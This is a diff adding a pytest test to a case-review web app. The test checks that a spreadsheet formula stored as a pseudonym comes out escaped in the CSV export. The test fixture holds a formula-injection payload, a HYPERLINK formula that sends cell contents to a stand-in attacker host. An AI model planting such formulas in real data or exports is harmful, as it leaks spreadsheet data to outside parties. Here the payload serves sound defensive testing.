@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from casereview.audit.models import AuditEvent
@@ -77,3 +80,13 @@ def test_managers_add_and_remove_identifiers_from_the_review_page(review, client
     client.post(f"/reviews/{review.pk}/identifiers/{identifier.pk}/remove/")
     assert not review.restricted_identifiers.filter(kind="address").exists()
     assert SECRET in client.get(f"/reviews/{review.pk}/").content.decode()
+
+
+def test_manager_rob_downloads_a_review_list_where_a_formula_typed_as_a_pseudonym_is_plain_text(
+        review, client_for, manager_rob):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'
+    type(review).objects.filter(pk=review.pk).update(pseudonym=hostile)
+    rows = list(csv.DictReader(io.StringIO(client_for(manager_rob).get("/reviews/export.csv").content.decode())))
+    row = next(r for r in rows if r["reference"] == review.reference)
+    assert row["pseudonym"] == "'" + hostile
+    assert row["aware_date"] == "2026-11-02" and row["published_date"] == ""
